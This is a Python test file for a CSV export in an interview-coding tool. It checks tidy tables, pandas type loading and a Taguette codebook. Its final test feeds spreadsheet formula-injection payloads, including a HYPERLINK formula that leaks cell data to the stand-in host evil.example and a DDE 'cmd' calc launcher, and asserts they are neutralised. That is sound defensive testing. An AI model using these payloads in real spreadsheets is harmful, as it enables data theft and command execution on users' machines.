"""CSV export: tidy tables that load without cleaning and join on their keys."""

from __future__ import annotations

import csv

from core.coordinator.aggregate import aggregate_interviews
from core.reports.csv_export import write_csv
from tests.helpers.coordinator_data import make_corpus, typed


def _read(path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM: R would glue it to the first column name
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_tables_are_tidy_and_join(tmp_path):
    corpus = make_corpus(6)
    corpus[0]["segments"][1]["text"] = 'He said "fine",\nthen left, again.'
    agg = aggregate_interviews(typed(corpus), site="SITE-A")
    paths = write_csv(agg, tmp_path / "csv")
    assert sorted(p.name for p in paths) == ["answers.csv", "codebook-taguette.csv", "corrections.csv",
                                             "data-dictionary.csv", "interviews.csv", "segments.csv",
                                             "tags.csv", "theme_parents.csv", "themes.csv"]
    interviews = _read(tmp_path / "csv" / "interviews.csv")
    answers = _read(tmp_path / "csv" / "answers.csv")
    tags = _read(tmp_path / "csv" / "tags.csv")
    segments = _read(tmp_path / "csv" / "segments.csv")
    assert len(interviews) == agg.n_interviews == 2
    assert len({r["packet_id"] for r in interviews}) == 2  # one row per interview
    assert {(r["packet_id"], r["question_id"]) for r in answers}.__len__() == len(answers)
    assert sum(int(r["n_tags"]) for r in interviews) == len(tags)
    assert sum(int(r["n_answers"]) for r in interviews) == len(answers)
    ids = {r["packet_id"] for r in interviews}
    assert {r["packet_id"] for r in tags} <= ids and {r["packet_id"] for r in answers} <= ids
    assert {r["consent_witnessed"] for r in interviews} <= {"true", "false"}
    assert all(r["month"].startswith("2025-") for r in interviews)
    # every line is one row: quotes escaped, line breaks folded
    lines = (tmp_path / "csv" / "segments.csv").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(segments) + 1
    assert any(r["text"] == 'He said "fine", then left, again.' for r in segments)
    # span tags carry the coded passage, whole-segment tags the segment
    for row in tags:
        assert row["passage"]
        assert int(row["end_char"]) - int(row["start_char"]) == len(row["passage"])
        assert row["whole_segment"] in ("true", "false")


def test_every_table_loads_in_pandas_with_the_dictionary_types_and_no_options(tmp_path):
    import pandas as pd  # a test dependency: a missing pandas fails here, never skips
    corpus = make_corpus(5)
    corpus[0]["guide"]["version"] = "1.10"        # would be read as the number 1.1
    corpus[1]["interview"]["consent"]["method"] = ""
    corpus[2]["supersedes"] = "ab" * 16
    corpus[0]["codebook"][1]["parent"] = corpus[0]["codebook"][0]["id"]
    write_csv(typed(corpus), tmp_path)
    dictionary = pd.read_csv(tmp_path / "data-dictionary.csv")
    kinds = {"text": "O", "integer": "i", "true/false": "b", "month (ISO 8601 YYYY-MM)": "O",
             "date-time (ISO 8601)": "O"}
    for table, rows in dictionary.groupby("table"):
        frame = pd.read_csv(tmp_path / table)
        assert list(frame.columns) == list(rows["column"]), table
        for column, kind in zip(rows["column"], rows["type"], strict=True):
            assert frame[column].dtype.kind == kinds[kind], (table, column, frame[column].dtype)
    iv = pd.read_csv(tmp_path / "interviews.csv")
    assert "job-quality@1.10" in set(iv["guide_version"])
    assert iv["consent_witnessed"].dtype == bool and iv["n_tags"].dtype.kind == "i"
    assert iv["is_correction"].sum() == 1
    assert pd.read_csv(tmp_path / "corrections.csv")["supersedes"].tolist() == ["ab" * 16]
    assert len(pd.read_csv(tmp_path / "theme_parents.csv")) == 1
    tags = pd.read_csv(tmp_path / "tags.csv")
    assert tags.merge(iv, on="packet_id").shape[0] == len(tags)
    for month in iv["month"]:
        assert len(month) == 7 and month[4] == "-"
    assert pd.to_datetime(iv["signed_off_at"]).notna().all()  # ISO 8601 parses as is


def test_taguette_codebook_has_a_name_column(tmp_path):
    write_csv(typed(make_corpus(2)), tmp_path)
    rows = _read(tmp_path / "codebook-taguette.csv")
    assert rows and set(rows[0]) == {"name", "description"}
    assert all(r["name"] for r in rows)


def test_formula_cells_are_neutralised(tmp_path):
    """A participant's words (or a hostile packet) must not run in the coordinator's spreadsheet."""
    corpus = make_corpus(2)
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
               "\t=1+1", "\r=1+1"]
    for seg, text in zip(corpus[0]["segments"], attacks, strict=False):
        seg["text"] = text
    corpus[0]["interview"]["site"] = "=cmd|' /C calc'!A0"
    paths = write_csv(aggregate_interviews(typed(corpus)), tmp_path / "csv")
    for path in paths:
        for row in _read(path):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, value)
    texts = [r["text"] for r in _read(tmp_path / "csv" / "segments.csv")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in texts and "'+1+2" in texts
    assert "'=1+1" in texts  # the leading CR was folded away, then the formula neutralised
    sites = {r["site"] for r in _read(tmp_path / "csv" / "interviews.csv")}
    assert "'=cmd|' /C calc'!A0" in sites
    # numbers stay numbers
    assert all(r["start_ms"].isdigit() for r in _read(tmp_path / "csv" / "segments.csv"))
